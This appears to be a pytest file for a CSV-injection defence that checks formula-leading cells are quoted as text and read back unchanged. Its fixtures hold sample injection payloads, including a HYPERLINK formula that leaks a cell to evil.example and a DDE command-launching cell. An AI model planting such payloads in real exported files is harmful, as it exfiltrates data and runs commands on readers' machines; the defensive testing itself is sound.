"""CSV cells a spreadsheet reads as text, read back as written (specs/csv_cells.py, OWASP
"CSV Injection", docs/decisions/0047)."""

from __future__ import annotations

import csv
import io

import pytest

from specs.csv_cells import neutral_cell, neutral_row, original_cell

FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A3,"Click to re-subscribe") 5.1.1',
    "=cmd|'/ccalc'!a0@x.example", "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=",
]
# Values that already start with quotes: each gets exactly what it needs to come back.
QUOTED = ["'=1+1", "''=1+1", "'plain", "''", "'", "'-"]
PLAIN = ["", "plain", "joe@example.com", "1+1", " =1+1", "hmac:k1:" + "0" * 64, "2024-01-01"]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_formula_start_is_quoted_as_text(value: str) -> None:
    assert neutral_cell(value) == "'" + value


@pytest.mark.parametrize("value", PLAIN)
def test_other_values_are_written_as_they_are(value: str) -> None:
    assert neutral_cell(value) == value == original_cell(value)


@pytest.mark.parametrize("value", FORMULAS + QUOTED + PLAIN)
def test_every_value_reads_back_as_written_through_a_real_csv_file(value: str) -> None:
    out = io.StringIO()
    csv.writer(out).writerow(neutral_row([value, "x"]))
    (cells,) = list(csv.reader(io.StringIO(out.getvalue())))
    assert not cells[0].startswith(("=", "+", "-", "@", "\t", "\r"))
    assert [original_cell(c) for c in cells] == [value, "x"]


def test_a_spreadsheets_own_text_quote_reads_as_the_value() -> None:
    # A cell an operator typed as '=1+1 in a spreadsheet (to keep it text) is =1+1.
    assert original_cell("'=1+1") == "=1+1"
    assert original_cell("'+44 20 7946 0000") == "+44 20 7946 0000"
    assert original_cell("'hello") == "'hello"  # not before a formula: the quote is the value's
